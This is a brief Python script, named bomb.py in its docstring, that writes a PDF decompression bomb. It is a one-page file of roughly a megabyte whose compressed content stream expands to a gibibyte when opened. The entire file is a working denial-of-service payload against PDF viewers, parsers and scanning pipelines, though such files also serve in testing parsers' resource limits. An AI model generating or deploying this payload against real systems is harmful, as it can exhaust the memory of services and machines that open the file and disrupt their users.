"""Writes a PDF of a megabyte whose one page unpacks to a gibibyte: bomb.py FILE."""

import sys
import zlib

packer = zlib.compressobj(9)
packed = b"".join(packer.compress(b"0" * (1 << 20)) for _ in range(1024)) + packer.flush()
objects = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << >> >>",
    b"<< /Filter /FlateDecode /Length %d >> stream\n%s\nendstream" % (len(packed), packed),
]
file, places = b"%PDF-1.4\n", []
for number, content in enumerate(objects, 1):
    places.append(len(file))
    file += b"%d 0 obj %s endobj\n" % (number, content)
table = b"".join(b"%010d 00000 n \n" % place for place in places)
file += b"xref\n0 5\n0000000000 65535 f \n%strailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (table, len(file))
with open(sys.argv[1], "wb") as out:
    out.write(file)
